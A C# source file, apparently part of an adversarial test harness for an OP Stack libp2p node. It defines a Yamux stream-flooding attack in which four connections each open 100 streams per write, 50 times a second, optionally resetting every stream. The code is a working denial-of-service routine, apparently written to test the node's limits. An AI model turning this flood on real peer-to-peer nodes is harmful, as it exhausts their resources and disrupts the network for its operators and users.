using OpStack.Libp2p.Yamux;

namespace OpStack.P2P.Adversarial.NodeCases.Attacks.Transport;

/// <summary>100 streams opened in one write, again and again, and nothing said on any of them; with resets, closed in the same write.</summary>
internal sealed class YamuxStreams(bool resets) : Attack
{
    private const int Batch = 100;
    private const int BatchesPerSecond = 50;

    public override string Name => resets ? "yamux-resets" : "yamux-streams";

    public override string Row => "25";

    public override string Unit => "streams";

    protected override int Attackers => 4;

    protected override async Task LiveAsync(AttackTarget target, int attacker, CancellationToken stop)
    {
        await using NoiseAttacker peer = await NoiseAttacker.ConnectAsync(target, stop);
        Pace pace = new(BatchesPerSecond);
        for (uint first = 1; ; first += 2 * Batch)
        {
            await pace.NextAsync(stop);
            await peer.SendAsync(Enumerable.Range(0, Batch).SelectMany(i => Open(first + (2 * (uint)i))), stop);
            CountSent(Batch);
        }
    }

    private IEnumerable<YamuxHeader> Open(uint stream)
    {
        yield return new YamuxHeader(YamuxFrameType.WindowUpdate, YamuxFlags.Syn, stream, 0);
        if (resets)
        {
            yield return new YamuxHeader(YamuxFrameType.WindowUpdate, YamuxFlags.Rst, stream, 0);
        }
    }
}
